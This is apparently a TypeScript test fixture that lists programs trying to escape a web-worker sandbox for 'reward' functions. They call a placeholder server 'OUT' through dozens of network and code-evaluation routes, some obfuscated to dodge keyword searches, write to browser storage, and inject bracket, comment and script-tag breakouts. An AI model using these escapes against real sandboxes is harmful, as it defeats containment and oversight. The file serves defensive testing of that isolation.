/**
 * Programs that try to leave the worker of a reward. `OUT` in them is an address of a second server, another for each
 * program. In a plain worker every one of these reaches what it is after: that is tested too, or the list would prove nothing.
 */

export interface Escape {
  readonly name: string;
  /** Statements; they may be asynchronous. */
  readonly code: string;
  /** What a plain worker leaves behind: a request at `OUT`, or something stored under the name `OUT` ends with. */
  readonly leaves: 'request' | 'storage';
}

const CALL = "fetch('OUT')";
/** As a text, and without the word that a search would find. */
const OF_TEXT = `("imp" + "ort('OUT')")`;
/** The value of a name, wherever on the chain of the global object it is. */
const ON_CHAIN = `const onChain = (name) => {
  for (let at = globalThis; at; at = Object.getPrototypeOf(at)) if (Object.hasOwn(at, name) && at[name]) return at[name];
};`;

const REQUESTS: Readonly<Record<string, string>> = {
  fetch: CALL,
  'fetch of a Request': "fetch(new Request('OUT'))",
  'fetch from the prototype chain': `${ON_CHAIN} onChain('fetch').call(globalThis, 'OUT')`,
  XMLHttpRequest: "const call = new XMLHttpRequest(); call.open('GET', 'OUT'); call.send()",
  'XMLHttpRequest, synchronous': "const call = new XMLHttpRequest(); call.open('GET', 'OUT', false); call.send()",
  WebSocket: "new WebSocket('OUT'.replace('http', 'ws'))",
  WebSocketStream: "new WebSocketStream('OUT'.replace('http', 'ws'))",
  EventSource: "new EventSource('OUT')",
  importScripts: "importScripts('OUT')",
  'a module by import()': "import('OUT')",
  'a module by import() of a data: module': `import('data:text/javascript,import "OUT"')`,
  'a module by import() of a blob: module': `import(URL.createObjectURL(new Blob(['import "OUT"'], { type: 'text/javascript' })))`,
  'a module as JSON': "import('OUT', { with: { type: 'json' } })",
  FontFace: "new FontFace('y', 'url(OUT)').load()",
  'the font set of the worker': "const face = new FontFace('y', 'url(OUT)'); fonts.add(face); fonts.load('12px y')",
  'caches.add': "caches.open('x').then((cache) => cache.add('OUT'))",
  'a Worker from a blob:': `new Worker(URL.createObjectURL(new Blob([${OF_TEXT}])))`,
  'a Worker from a data: URL': `new Worker('data:text/javascript,' + encodeURIComponent(${OF_TEXT}))`,
  'WebAssembly, streamed': "WebAssembly.compileStreaming(fetch('OUT'))",
  'eval, indirect': `(0, eval)(${OF_TEXT})`,
  'eval, direct': `eval(${OF_TEXT})`,
  Function: `new Function(${OF_TEXT})()`,
  'the constructor of a function': `(() => {}).constructor(${OF_TEXT})()`,
  'the constructor of a constructor': `[].constructor.constructor(${OF_TEXT})()`,
  'the constructor of an async function': `(async () => {}).constructor(${OF_TEXT})()`,
  'the constructor of a generator': `(function* () {}).constructor(${OF_TEXT})().next()`,
  'the constructor of an async generator': `(async function* () {}).constructor(${OF_TEXT})().next()`,
  'Reflect.construct of the maker of functions': `Reflect.construct(Object.getPrototypeOf(() => {}).constructor, [${OF_TEXT}])()`,
  'setTimeout of a text': `setTimeout(${OF_TEXT})`,
  'setInterval of a text': `setInterval(${OF_TEXT}, 10)`,
  'setTimeout of a text, from the prototype chain': `${ON_CHAIN} onChain('setTimeout').call(globalThis, ${OF_TEXT})`,
  'a callback of queueMicrotask': `queueMicrotask(() => ${CALL})`,
  'a callback of setTimeout': `setTimeout(() => ${CALL})`,
  'a callback of a message channel': `const { port1, port2 } = new MessageChannel(); port1.onmessage = () => ${CALL}; port2.postMessage(0)`,
  'an event of its own': `addEventListener('own', () => ${CALL}); dispatchEvent(new Event('own'))`,
  'an EventTarget of its own': `const own = new EventTarget(); own.addEventListener('own', () => ${CALL}); own.dispatchEvent(new Event('own'))`,
  'an aborted signal': `const control = new AbortController(); control.signal.onabort = () => ${CALL}; control.abort()`,
  'a promise': `Promise.resolve().then(() => ${CALL})`,
  'a promise that is rejected by nobody': `onunhandledrejection = () => ${CALL}; Promise.reject(1)`,
  'a stack trace that is prepared': `Error.prepareStackTrace = () => ${CALL}; void new Error().stack`,
  'a getter of the global object': `Object.defineProperty(globalThis, 'own', { get: () => ${CALL} }); void own`,
  'a scheduler': `scheduler.postTask(() => ${CALL})`,
  'a readable stream': `new ReadableStream({ start: () => ${CALL} })`,
  'an observer of performance': `new PerformanceObserver(() => ${CALL}).observe({ entryTypes: ['mark'] }); performance.mark('x')`,
  'a lock': `navigator.locks.request('x', () => ${CALL})`,
};

const STORAGE: Readonly<Record<string, string>> = {
  IndexedDB: "indexedDB.open('OUT'.split('/').pop())",
  'Cache Storage': "caches.open('OUT'.split('/').pop()).then((cache) => cache.put('/x', new Response('x')))",
  "the origin's own files":
    "navigator.storage.getDirectory().then((root) => root.getFileHandle('OUT'.split('/').pop(), { create: true }))",
  'a storage bucket':
    "navigator.storageBuckets.open('x').then((bucket) => bucket.indexedDB.open('x')).then(() => navigator.storage.getDirectory()).then((root) => root.getFileHandle('OUT'.split('/').pop(), { create: true }))",
  'the old file system': "webkitRequestFileSystemSync(0, 1024).root.getFile('OUT'.split('/').pop(), { create: true })",
  'the old file system, asynchronous':
    "webkitRequestFileSystem(0, 1024, ({ root }) => root.getFile('OUT'.split('/').pop(), { create: true }))",
};

export const ESCAPES: readonly Escape[] = [
  ...Object.entries(REQUESTS).map(([name, code]) => ({ name, code, leaves: 'request' }) as const),
  ...Object.entries(STORAGE).map(([name, code]) => ({ name, code, leaves: 'storage' }) as const),
];

/** Whole programs, which make no sense elsewhere: they use names of ours, or try to leave the function they might be in. */
export const WHOLE_PROGRAMS: Readonly<Record<string, string>> = {
  'the reader of its own text': `read(${OF_TEXT}); function reward() { return 0; }`,
  'names of ours': `function reward() { for (const make of [() => post({ values: [] }), () => listen('message', () => {}), () => score(1)]) try { make(); return 1; } catch {} return 0; }`,
  'a bracket that closes ours': `function reward() { return 0; } } ${CALL}; {`,
  'brackets that close a call of ours': `return reward;})(); ${CALL}; (() => { function reward() { return 0; }`,
  'a comment that opens and is not closed': `function reward() { return 0; } ${CALL} /*`,
  'a comment that closes ours': `*/ ${CALL}; function reward() { return 0; } /*`,
  'a comment of HTML': `--> \n<!-- \nfunction reward() { return 0; }\n${CALL}`,
  'the end of a script': `function reward() { return 0; } // </script><script>${CALL}</script>`,
  'a module that imports': `import 'OUT'; export function reward() { return 0; }`,
  'a module that waits': `await import('OUT'); function reward() { return 0; }`,
  'functions under the names of ours': `function importScripts() {} function Blob() {} function URL() {} function postMessage() {} function reward() { return 0; } ${CALL}`,
  'the address of its own script': `function reward() { return 0; } import(new Error().stack.match(/blob:[^:]*:?[^:)]*/)?.[0] ?? 'OUT').catch(() => ${CALL})`,
  'a worker from its own script': `function reward() { return 0; } new Worker(new Error().stack.match(/(blob:\\S+?):\\d+/)[1]); ${CALL}`,
};

/** The program of an escape: once while it is read, once for the first completion, and then it stays for a moment. */
export function programOf({ code }: Escape): string {
  return `const attempt = () => { try { ${code} } catch {} };
attempt();
let calls = 0;
function reward() {
  if (calls++ === 0) { attempt(); for (const end = Date.now() + 40; Date.now() < end; ); }
  return 0;
}`;
}
